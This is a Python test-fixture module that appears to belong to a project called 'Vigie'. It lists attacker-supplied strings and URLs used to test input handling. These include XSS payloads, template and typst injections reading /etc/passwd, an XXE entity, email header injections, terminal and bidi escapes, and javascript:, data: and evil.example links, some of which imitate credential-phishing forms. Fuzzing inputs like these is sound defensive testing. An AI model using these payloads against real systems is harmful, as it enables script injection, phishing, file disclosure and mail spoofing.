"""What an attacker may write where a source, a partner or a page gives us text or an address.

Written for Vigie. Texts go into every text field, links into every address. Each group aims at one
thing that a form is made of: HTML, its attributes, CSS, MJML, templates, typst, XML and JSON feeds,
mail headers, a terminal, a reader's eye.
"""

from __future__ import annotations

HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif?who=you' width=1 height=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>lire</a>",
    "<a href='https://evil.example/' target=_blank>lire</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<table background='javascript:alert(1)'><td>",
    "</p></article></main><h1>big</h1>",
    "</title></style></textarea></noscript><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e",
    "<\x00script>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
ATTRIBUTES = (
    '"onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x` onclick=`alert(1)",
    '" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    "\u2028onclick=alert(1)\u2029",
)
STYLES = (
    "</style><script>alert(1)</script>",
    "body{background:url(https://evil.example/x)}",
    "@import 'https://evil.example/x.css';",
    "x;} * {display:none} y{",
)
TEMPLATES = (
    "</title></mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    '<mj-image src="https://evil.example/pixel.gif" />',
    "<mj-style>a{color:red}</mj-style>",
    "{{ 7*7 }}{% for x in y %}{# c #}",
    "{{ page.__class__.__mro__ }}",
    "%s %n {0} {who} {missing} {count}",
    "%(name)s ${HOME} $(id) `id`",
)
TYPST = (
    '#read("/etc/passwd")',
    '#include "/etc/passwd" #import "@preview/x:1.0.0"',
    "$ integral $ *gras* _it_ = Titre @ref <label> \\ #{1 + 1} `raw` // c",
    '"); #panic("x"); ("',
    '#image("/etc/passwd") #link("javascript:alert(1)")[x]',
    '\\u{202e} #eval("1+1")',
)
FEEDS = (
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "]]></content></entry><entry><title>faux</title></entry>",
    "</title><link href='https://evil.example/'/><title>",
    '"}],"items":[{"id":"x","content_html":"<script>alert(1)</script>"}],"y":[{"z":"',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
)
HEADERS = (
    "a\r\nBcc: victim@example.org\r\n\r\nbody",
    "a\nSubject: autre\nContent-Type: text/html",
    "=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=",
    "a\u2028Bcc: victim@example.org",
    "a\x85Bcc: victim@example.org\x0b\x0c",
    '"Faux" <victim@example.org>, x',
)
CONTROLS = (
    "ligne\x00zéro\x1b[31mrouge\x07",
    "\x1b]8;;https://evil.example\x1b\\lire\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c \u2066isolé\u2069 \u200f\u200b\ufeff",
    "facture\u202efdp.exe",
    "Z" + "\u0301" * 200 + "algo",
    "\ud800 seul",
    "\ufffe\uffff nulle part",
    "\U000e0041\U000e0042 tags",
    "A" * 5000,
    "mot " * 2000,
    "🚀🇧🇪 中文 كابل بحري עברית ไทย",
    " \t\r\n ",
    "",
)
TEXTS = (*HTML, *ATTRIBUTES, *STYLES, *TEMPLATES, *TYPST, *FEEDS, *HEADERS, *CONTROLS)

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:x",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example/",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/relative",
    "https://bank.example@evil.example/",
    "https://user:secret@evil.example/",
    "https:///nohost",
    "https://[::1",
    "https://evil.example\\@bank.example/",
    "https://exa mple.org/",
    "https://example.org:99999999/",
    "https://example.org/\u202egnp",
    'https://"onclick="x.example/',
    "https://example.org/" + "a" * 3000,
    "mailto:x@example.org",
    "",
)
